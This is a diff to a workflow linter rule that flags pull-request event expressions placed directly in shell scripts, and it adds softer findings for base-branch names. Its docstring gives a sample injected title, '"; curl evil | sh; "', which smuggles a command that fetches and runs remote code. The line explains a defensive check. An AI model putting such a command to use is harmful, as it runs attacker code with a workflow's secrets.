@@ -74,17 +74,22 @@ def _fix(target: str) -> str:
     return f"add the target {target}, or fix its name"
 
 
+OF_A_BASE = frozenset({"github.base_ref", "github.event.pull_request.base.ref"})
+
+
 @rule("FILE028")
 def scripts_take_no_expressions(context: Context) -> Iterator[Problem]:
     """A script of a workflow has no expression of the event in it.
 
     `${{ github.event.pull_request.title }}` is put into the script before a shell reads it: a title of
-    `"; curl evil | sh; "` is run, with the workflow's token and secrets. Give it by `env:`, and write `"$TITLE"`.
+    `"; curl evil | sh; "` is run, with the workflow's token and secrets. Give it by `env:`, and write `"$TITLE"`. The
+    branch that a pull request is for, which only who may write can name, is told with `--strict`.
     """
     for file, at in context.everywhere("pipeline"):
         if at.more == "expression":
             message = f"{at.text} becomes a part of this script, and another person chooses the value"
-            yield Problem("FILE028", message, place(file, at), 'give it by env:, and write "$NAME" in the script')
+            mend, sure = 'give it by env:, and write "$NAME" in the script', at.text not in OF_A_BASE
+            yield Problem("FILE028", message, place(file, at), mend, sure=sure)
 
 
 @rule("FILE029")
